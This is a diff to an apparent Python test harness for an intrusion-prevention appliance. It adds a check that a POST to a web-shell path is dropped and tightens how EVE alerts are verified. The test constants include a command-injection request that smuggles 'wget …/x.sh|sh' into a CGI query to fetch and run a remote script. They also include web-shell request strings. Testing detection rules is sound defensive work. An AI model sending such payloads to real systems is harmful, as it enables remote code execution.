@@ -30,6 +30,8 @@ LAB_RULES = RULES_DIR / "lab.rules"
 BLOCKED_HOST = "198.18.0.66"
 BLOCKED_PORT = 23
 ATTACK = "GET /cgi-bin/status?q=;wget http://198.18.0.99/x.sh|sh HTTP/1.0\r\n\r\n"
+WEBSHELL_POST = "POST /uploads/shell.php HTTP/1.1\r\nHost: lab\r\nContent-Length: 1048576\r\n\r\n"
+WEBSHELL_GET = "GET /uploads/shell.php HTTP/1.1\r\nHost: lab\r\n\r\n"
 
 
 class ApplianceProcess:
@@ -230,6 +232,17 @@ def run(args) -> int:
                              prefix="GET /cgi-bin/status?q=uptime HTTP/1.0\r\n\r\n")
             results.append(t.ok)
             lines.append(_row("the same request without the payload", t.ok, "passed"))
+            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8082,
+                             timeout=5, prefix=WEBSHELL_POST)
+            ok = not t.ok and t.bytes == 0
+            results.append(ok)
+            lines.append(_row("HTTP POST to a web shell path", ok,
+                              "dropped by rule sid:9000004 (http.method + http.uri)" if ok
+                              else f"{t.bytes} bytes got through"))
+            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8083,
+                             prefix=WEBSHELL_GET)
+            results.append(t.ok)
+            lines.append(_row("HTTP GET of the same path", t.ok, "passed"))
             print("traffic:")
             print("\n".join(lines))
             print()
@@ -238,14 +251,17 @@ def run(args) -> int:
             alerts = [json.loads(x) for x in eve.read_text().splitlines()] if eve.exists() else []
             print(f"\nEVE records written by the appliance ({eve}):")
             for a in alerts:
+                what = (f"sid:{a['alert']['signature_id']} {a['alert']['action']} \"{a['alert']['signature']}\""
+                        if "alert" in a else f"reason: {a.get('drop', {}).get('reason', '?')}")
+                app_proto = f" [{a['app_proto']}]" if a.get("app_proto") else ""
                 print(f"  {a['timestamp']} {a['event_type']:<5} {a['src_ip']}:{a.get('src_port')} -> "
-                      f"{a['dest_ip']}:{a.get('dest_port')} sid:{a['alert']['signature_id']} "
-                      f"{a['alert']['action']} \"{a['alert']['signature']}\"")
-            ok = any(a["event_type"] == "alert" and a["alert"]["signature_id"] == 9000003
-                     and a["alert"]["action"] == "blocked" for a in alerts)
-            results.append(ok)
-            if not ok:
-                print("  FAIL  no blocked alert for sid:9000003")
+                      f"{a['dest_ip']}:{a.get('dest_port')}{app_proto} {what}")
+            for sid in (9000003, 9000004):
+                ok = any(a["event_type"] == "alert" and a["alert"]["signature_id"] == sid
+                         and a["alert"]["action"] == "blocked" for a in alerts)
+                results.append(ok)
+                if not ok:
+                    print(f"  FAIL  no blocked alert for sid:{sid}")
             if args.keep:
                 print(f"\nlab kept: namespaces {', '.join(lab.namespaces)}; metrics inside {lab.fw_ns} "
                       f"at http://127.0.0.1:{app.metrics_port}/metrics. Ctrl-C to clean up.")
